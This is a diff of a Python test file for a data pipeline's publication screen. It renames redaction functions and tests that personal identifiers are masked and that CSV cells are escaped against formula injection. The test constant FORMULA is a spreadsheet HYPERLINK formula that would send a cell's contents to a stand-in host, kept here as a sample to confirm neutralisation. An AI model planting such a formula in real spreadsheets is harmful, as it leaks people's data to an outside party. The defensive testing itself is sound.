@@ -8,8 +8,8 @@ import duckdb
 import pandas as pd
 import pytest
 
-from pipeline import screen
-from pipeline.assets import internal
+from pipeline.outputs import renewal_list
+from pipeline.publication import screen
 from pipeline.report.render import table_csv
 
 FORMULA = '=HYPERLINK("http://x.example/?n="&C2,"Nama")'
@@ -44,8 +44,8 @@ FORMULA = '=HYPERLINK("http://x.example/?n="&C2,"Nama")'
     ],
 )
 def test_personal_numbers_phones_and_emails_are_masked(text, expected):
-    assert screen.mask(text) == expected
-    assert screen.mask(expected) == expected  # idempotent
+    assert screen.redact(text) == expected
+    assert screen.redact(expected) == expected  # idempotent
 
 
 @pytest.mark.parametrize(
@@ -67,12 +67,12 @@ def test_personal_numbers_phones_and_emails_are_masked(text, expected):
     ],
 )
 def test_codes_amounts_dates_and_digests_are_left_alone(text):
-    assert screen.mask(text) == text
+    assert screen.redact(text) == text
 
 
 def test_only_text_is_touched():
-    assert screen.mask(6107051212000001) == 6107051212000001
-    assert screen.mask(None) is None
+    assert screen.redact(6107051212000001) == 6107051212000001
+    assert screen.redact(None) is None
     assert screen.neutralise(-5) == -5
     assert screen.neutralise("-5") == "'-5"
     assert screen.publish_cell(FORMULA) == "'" + FORMULA
@@ -151,9 +151,9 @@ def test_the_renewal_list_keeps_names_and_nik_but_no_live_formula(tmp_path, monk
         "APBD_KAB",
         "2025-11-30",
     )
-    monkeypatch.setattr(internal, "fetch", lambda *_: (list(internal.HEADER), [row]))
+    monkeypatch.setattr(renewal_list, "fetch", lambda *_: (list(renewal_list.HEADER), [row]))
     with duckdb.connect() as con:
-        internal.write_renewal_lists(con, dt.date(2025, 9, 1), tmp_path)
+        renewal_list.write_renewal_lists(con, dt.date(2025, 9, 1), tmp_path)
     listed = list(csv.reader((tmp_path / "2025-09" / "61.07-daftar-perpanjangan.csv").open(encoding="utf-8")))
     assert listed[1][4] == "'-Desa" and listed[1][5] == "'" + FORMULA
     assert listed[1][6] == "6107051212000001"  # internal: the NIK stays for the village office
